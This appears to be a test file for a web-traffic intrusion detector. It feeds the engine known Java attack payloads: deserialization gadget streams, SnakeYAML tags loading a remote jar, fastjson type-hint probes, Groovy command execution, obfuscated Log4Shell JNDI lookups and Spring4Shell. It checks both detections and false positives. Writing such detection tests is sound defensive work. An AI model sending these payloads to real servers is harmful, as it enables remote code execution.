@@ -1,0 +1,146 @@
+import { gzipSync } from 'node:zlib';
+import { createAnalysisEngine, type MatchEventRecord } from '@/runtime/analyzer/engine';
+import { InspectedValue, inspectValue } from '@/runtime/analyzer/engine/detection';
+import { gunzipBase64Start, gunzipStart, lookupForm } from '@/runtime/analyzer/engine/detection/decode';
+import type { ValueLocation } from '@/runtime/analyzer/engine/detection/types';
+import { buildExchange } from '@/test/fixtures/traffic';
+
+const context = { sensorId: 'sensor-1', sensorTags: [] };
+/** The rules a value matches, as `id`. */
+const idsOf = (value: string, location: ValueLocation = 'query', name = 'q'): number[] =>
+  inspectValue(new InspectedValue(location, name, value)).map((r) => r.id);
+
+/** The rule ids of the MatchEvent a request raises at level 1 (none: []). */
+function alertIds(spec: Parameters<typeof buildExchange>[0]): number[] {
+  const events = createAnalysisEngine({ catalog: false, detectionLevel: 1 }).analyze(buildExchange(spec), context);
+  const match = events.find((e): e is MatchEventRecord => e.msg_type === 'MatchEvent');
+  return match ? match.matches.map((m) => m.id) : [];
+}
+
+/** A minimal Java serialization stream: magic, version, one class descriptor. */
+function javaStream(className: string): Buffer {
+  const name = Buffer.from(className);
+  return Buffer.concat([
+    Buffer.from([0xac, 0xed, 0x00, 0x05, 0x73, 0x72, name.length >> 8, name.length & 255]),
+    name,
+    Buffer.from([1, 2, 3, 4, 5, 6, 7, 8, 2, 0, 0, 0x78, 0x70]),
+  ]);
+}
+
+describe('Java: serialization streams in bodies and compressed fields', () => {
+  const stream = javaStream('org.apache.commons.collections.functors.InvokerTransformer');
+
+  it.each([['application/x-java-serialized-object'], ['application/octet-stream'], ['application/json'], ['']])('a raw stream body labelled %j', (type) => {
+    const headers: Array<[string, string]> = type === '' ? [] : [['Content-Type', type]];
+    expect(alertIds({ method: 'POST', target: '/invoker/JMXInvokerServlet', requestHeaders: headers, requestBody: stream })).toContain(420101);
+  });
+
+  it('a gzip-compressed stream body, and a gzip+base64 field (JSF ViewState)', () => {
+    expect(
+      alertIds({ method: 'POST', target: '/invoker/readonly', requestHeaders: [['Content-Type', 'application/octet-stream']], requestBody: gzipSync(stream) }),
+    ).toContain(420101);
+    const viewState = encodeURIComponent(gzipSync(stream).toString('base64'));
+    const body = `j_idt12=j_idt12&javax.faces.ViewState=${viewState}`;
+    expect(
+      alertIds({ method: 'POST', target: '/faces/login.xhtml', requestHeaders: [['Content-Type', 'application/x-www-form-urlencoded']], requestBody: body }),
+    ).toContain(420101);
+  });
+
+  it('leaves other binary and compressed bodies and fields alone', () => {
+    const png = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex');
+    expect(alertIds({ method: 'POST', target: '/upload', requestHeaders: [['Content-Type', 'application/octet-stream']], requestBody: png })).toEqual([]);
+    expect(
+      alertIds({ method: 'POST', target: '/upload', requestHeaders: [['Content-Type', 'application/octet-stream']], requestBody: gzipSync('{"a":1}') }),
+    ).toEqual([]);
+    const state = encodeURIComponent(gzipSync(JSON.stringify({ cart: [{ sku: 'A-1', qty: 2 }] })).toString('base64'));
+    expect(
+      alertIds({
+        method: 'POST',
+        target: '/faces/x.xhtml',
+        requestHeaders: [['Content-Type', 'application/x-www-form-urlencoded']],
+        requestBody: `s=${state}`,
+      }),
+    ).toEqual([]);
+    expect(
+      alertIds({
+        method: 'POST',
+        target: '/faces/x.xhtml',
+        requestHeaders: [['Content-Type', 'application/x-www-form-urlencoded']],
+        requestBody: 'javax.faces.ViewState=-4275390466372437580%3A6139185413391263437',
+      }),
+    ).toEqual([]);
+  });
+
+  it('inflates a bounded start of a gzip stream, and no compression bomb', () => {
+    expect(gunzipStart(gzipSync(stream))?.subarray(0, 4)).toEqual(Buffer.from([0xac, 0xed, 0x00, 0x05]));
+    expect(gunzipStart(gzipSync(Buffer.alloc(5_000_000)))).toBeUndefined();
+    expect(gunzipBase64Start('H4sI-not-base64-gzip')).toBeUndefined();
+    expect(gunzipStart(Buffer.from('not gzip at all'))).toBeUndefined();
+  });
+});
+
+describe('Java: SnakeYAML tags, fastjson type hints, Groovy commands', () => {
+  it('reads a YAML body and its tags naming JDK or gadget-library classes', () => {
+    const yaml = '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://198.51.100.2/p.jar"]]]]';
+    expect(alertIds({ method: 'POST', target: '/api/config', requestHeaders: [['Content-Type', 'application/x-yaml']], requestBody: yaml })).toContain(420110);
+    expect(idsOf('!<tag:yaml.org,2002:java.net.URL> ["http://x.example.net/"]')).toContain(420110);
+    expect(idsOf('!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: "ldap://x/a", autoCommit: true}')).toContain(420110);
+    // YAML's own tags, and an application's own classes
+    expect(idsOf('tags: !!set {a, b}\ncount: !!int "3"')).toEqual([]);
+    expect(idsOf('!!com.example.shop.Order {id: 12}')).toEqual([]);
+  });
+
+  it('a parsed JSON body: a type hint key whose value names a JDK class (fastjson DNS probes)', () => {
+    for (const cls of ['java.net.Inet4Address', 'java.net.Inet6Address', 'java.net.URL']) {
+      const body = JSON.stringify({ comment: 'ok', meta: { '@type': cls, val: 'fj.example.net' } });
+      expect(alertIds({ method: 'POST', target: '/api/feedback', requestHeaders: [['Content-Type', 'application/json']], requestBody: body })).toContain(
+        420106,
+      );
+    }
+    expect(idsOf('java.net.Inet4Address', 'body_json', 'meta.@type')).toEqual([420106]);
+    expect(idsOf('Product', 'body_json', '@type')).toEqual([]);
+    expect(idsOf('java.net.Inet4Address', 'body_json', 'meta.kind')).toEqual([]);
+  });
+
+  it.each([
+    "throw new Exception('id'.execute().text);",
+    'public class x{public x(){"touch /tmp/jk".execute()}}',
+    '["sh", "-c", "id"].execute()',
+    "@GrabConfig(disableChecksums=true)\n@GrabResolver(name='x', root='http://198.51.100.3/')\n@Grab(group='x', module='y', version='1')",
+  ])('Groovy %s alerts at level 1', (payload) => {
+    expect(idsOf(payload)).toContain(420111);
+  });
+
+  it('a method named execute on an object is not Groovy on a string', () => {
+    expect(idsOf("db.execute('SELECT 1')")).toEqual([]);
+    expect(idsOf('commands[i].execute()')).toEqual([]);
+  });
+});
+
+describe('Java: expressions and lookups', () => {
+  it('an OGNL or EL arithmetic probe in parentheses or in %{}, also as a path segment (S2-057)', () => {
+    expect(idsOf('${(111+111)}')).toContain(700101);
+    expect(idsOf('%{(7*7)}')).toContain(700101);
+    expect(alertIds({ target: '/struts2-showcase/%24%7B%28111%2B111%29%7D/actionChain1.action' })).toContain(700101);
+  });
+
+  it('resolves date lookups whose pattern is quoted text or punctuation (Log4Shell)', () => {
+    expect(lookupForm("${jn${date:}di${date:':'}ldap://x/a}")).toBe('${jndi:ldap://x/a}');
+    expect(lookupForm('${jndi${date::}ldap://x/a}')).toBe('${jndi:ldap://x/a}');
+    expect(lookupForm("${date:'j''n'}")).toBe('jn');
+    // Letters outside quotes are date fields: what they format to depends on the day.
+    expect(lookupForm('${date:yyyy}')).toBe('${date:yyyy}');
+    expect(alertIds({ target: '/', requestHeaders: [['X-Forwarded-Host', "${jn${date:}di${date:':'}ldap://dt.example.net/a}"]] })).toContain(800101);
+  });
+
+  it('Spring4Shell in bracket syntax', () => {
+    expect(idsOf('class[module][classLoader][resources][context][parent][pipeline][first][pattern]', 'body_form_name')).toContain(420105);
+  });
+
+  it('a class named among words is read about, not asked for', () => {
+    expect(idsOf('java.lang.Runtime exec example')).toEqual([]);
+    expect(idsOf('difference between java.lang.ProcessBuilder and Runtime')).toEqual([]);
+    expect(idsOf('java.lang.Runtime')).toEqual([420102]);
+    expect(idsOf('org.apache.commons.collections.functors.InvokerTransformer')).toEqual([420102]);
+  });
+});
